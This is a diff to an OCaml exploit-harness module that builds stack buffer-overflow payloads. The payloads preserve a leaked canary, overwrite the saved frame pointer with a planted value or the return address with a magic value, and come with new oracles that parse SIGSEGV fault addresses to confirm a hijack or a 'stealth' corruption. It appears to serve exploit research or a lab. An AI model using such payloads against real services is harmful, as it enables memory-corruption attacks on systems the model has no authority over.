@@ -26,6 +26,8 @@ let hijack layout ~canary =
   Bytes.set_int64_le b (off + 8) magic_ret;
   b
 
+let planted_rbp = 0x4242424242424242L
+
 let stealth_corruption layout ~canary =
   if Bytes.length canary <> layout.canary_len then
     invalid_arg "Payload.stealth_corruption: canary length mismatch";
@@ -33,16 +35,27 @@ let stealth_corruption layout ~canary =
   Bytes.fill b 0 layout.overflow_distance 'A';
   Bytes.blit canary 0 b layout.overflow_distance layout.canary_len;
   Bytes.set_int64_le b (layout.overflow_distance + layout.canary_len)
-    0x4242424242424242L;
+    planted_rbp;
   b
 
-let hijacked = function
-  | Oracle.Crashed (Os.Process.Sigsegv, msg) ->
-    let needle = Printf.sprintf "0x%Lx" magic_ret in
-    let rec contains i =
-      if i + String.length needle > String.length msg then false
-      else if String.sub msg i (String.length needle) = needle then true
-      else contains (i + 1)
-    in
-    contains 0
-  | Oracle.Survived _ | Oracle.Crashed _ | Oracle.Server_down _ -> false
+(* The address a SIGSEGV names: every one is a fault, reported as
+   "segmentation fault at 0x..." or "stack overflow at 0x...". *)
+let segv_addr = function
+  | Oracle.Crashed (Os.Process.Sigsegv, msg) -> (
+    match String.rindex_opt msg ' ' with
+    | Some i ->
+      Int64.of_string_opt (String.sub msg (i + 1) (String.length msg - i - 1))
+    | None -> None)
+  | Oracle.Survived _ | Oracle.Crashed _ | Oracle.Server_down _ -> None
+
+let hijacked response = segv_addr response = Some magic_ret
+
+(* The caller's first frame access after [leave; ret] goes through the
+   planted rbp: a fault within a page of it means the corruption got
+   past the canary check. *)
+let stealth_landed = function
+  | Oracle.Survived _ -> true
+  | response -> (
+    match segv_addr response with
+    | Some addr -> Int64.abs (Int64.sub addr planted_rbp) < 4096L
+    | None -> false)
